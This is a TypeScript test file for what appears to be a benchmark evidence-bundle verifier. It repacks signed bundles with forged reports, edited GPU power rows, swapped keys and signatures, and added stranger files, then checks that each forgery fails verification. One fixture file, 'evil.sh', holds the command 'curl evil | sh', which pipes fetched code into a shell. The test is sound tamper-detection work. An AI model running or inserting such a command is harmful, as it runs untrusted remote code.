import { createHash } from 'node:crypto'
import { mkdtempSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { type ArchiveFile, unpackArchive, writeArchive } from '../../harness/evidence/archive.ts'
import { BUNDLE_LIST, type BundleList } from '../../harness/evidence/check-bundle.ts'
import { toJson } from '../../harness/record/json-file.ts'
import { newKeyPair, publicHexOf, publicPemOf, readPrivateKey } from '../../harness/record/signing/signature.ts'
import { writeLiveRun } from '../../harness/testing/live-record.ts'
import type { CommandIo } from '../support/io.ts'
import { bundle } from './bundle.ts'
import { verify } from './verify.ts'

/** A bundle packed again with a correct list of hashes: only the signatures of the runs reveal the edit. */
const folder = mkdtempSync(join(tmpdir(), 'forged-'))
const key = readPrivateKey(newKeyPair().privatePem, 'test key')
const otherKey = readPrivateKey(newKeyPair().privatePem, 'other key')
const whole = join(folder, 'whole.tar')
const out = join(folder, 'forged.tar')
let printed = ''
const print = (text: string): void => {
  printed += text
}
const stderr = { isTTY: false, color: false, write: () => true }
const io: CommandIo = { stdout: print, stderr, env: {}, columns: null, color: false }

beforeAll(async () => {
  const { directory } = await writeLiveRun(mkdtempSync(join(folder, 'results-')), { key })
  await bundle([directory], { out: whole }, io)
})
beforeEach(() => {
  printed = ''
})

type Change = (name: string, bytes: Buffer) => Buffer
const same: Change = (_, bytes) => bytes

/** Packs the bundle anew with its files changed, added and left out, and gives the exit code of verify. */
async function forged(
  change: Change,
  list: Partial<BundleList> = {},
  added: readonly (ArchiveFile & { readonly source: { readonly bytes: Buffer } })[] = [],
  isLeftOut: (name: string) => boolean = () => false,
): Promise<number> {
  const open = mkdtempSync(join(folder, 'open-'))
  const all = (await unpackArchive(whole, open)).map(({ name }) => name)
  const names = all.filter((name) => name !== BUNDLE_LIST && !isLeftOut(name))
  const kept = names.map((name) => ({ name, source: { bytes: change(name, readFileSync(join(open, name))) } }))
  const files = [...kept, ...added]
  const hashes = files.map(({ name, source }) => [name, createHash('sha256').update(source.bytes).digest('hex')])
  const old = JSON.parse(readFileSync(join(open, BUNDLE_LIST), 'utf8')) as BundleList
  const made = toJson({ ...old, files: Object.fromEntries(hashes), ...list })
  await writeArchive(out, [{ name: BUNDLE_LIST, source: { bytes: Buffer.from(made) } }, ...files])
  return verify([out], { key: publicHexOf(key) }, io)
}

test('packed again without changes verifies', async () => {
  expect([await forged(same), printed]).toEqual([0, expect.stringMatching(/^verified: .*\nverified: /)])
})

test('with an edited report does not verify, although reports are not signed', async () => {
  const page = Buffer.from('<h1>9999 tokens/s</h1>')
  expect(await forged((name, bytes) => (name.endsWith('.html') ? page : bytes))).toBe(1)
  expect(printed).toContain('reports/report.html: differs from the report that joulemark')
})

test('that hides a run from its list of runs does not verify', async () => {
  expect(await forged(same, { runs: ['runs/another'] })).toBe(1)
  expect(printed).toContain("holds files of a run that is not in the bundle's list of runs")
})

test('with edited rows does not verify', async () => {
  const watts = (bytes: Buffer) => Buffer.from(bytes.toString().replaceAll(',340,', ',240,'))
  expect(await forged((name, bytes) => (name.endsWith('/gpu.csv') ? watts(bytes) : bytes))).toBe(1)
  expect(printed).toMatch(/gpu\.csv: was changed/)
})

describe('files that no signature covers, packed anew with a correct list of hashes', () => {
  const differs = /differs from the file that joulemark .* signatures cover the runs, not this file/
  test.each([
    ['the README', (name: string) => name === 'README.md', 'Certified by NVIDIA'],
    ['a public key', (name: string) => name.startsWith('keys/'), publicPemOf(publicHexOf(otherKey))],
    ['a manifest', (name: string) => /^manifests\/.*\.json$/.test(name), '{}'],
    ['a signature', (name: string) => name.endsWith('.sig'), 'x'.repeat(64)],
  ])('%s that was replaced is named', async (_, isIt, text) => {
    let changed = ''
    const code = await forged((name, bytes) => {
      if (!isIt(name)) return bytes
      changed = name
      return Buffer.from(text)
    })
    expect([code, changed]).toEqual([1, expect.stringMatching(/./)])
    expect(printed).toContain(`${changed}: differs from the file`)
    expect(printed).toMatch(differs)
  })

  test.each(['evil.sh', 'README.html', 'keys/another.pem', 'reports/more.html', 'runs.txt'])(
    'a stranger is refused: %s',
    async (name) => {
      expect(await forged(same, {}, [{ name, source: { bytes: Buffer.from('curl evil | sh') } }])).toBe(1)
      expect(printed).toContain(`${name}: does not belong to a bundle of these runs`)
    },
  )

  test('a file that is missing is named', async () => {
    expect(await forged(same, {}, [], (name) => name.endsWith('.sig'))).toBe(1)
    expect(printed).toMatch(/manifests\/.*\.sig: is missing from the bundle/)
  })
})
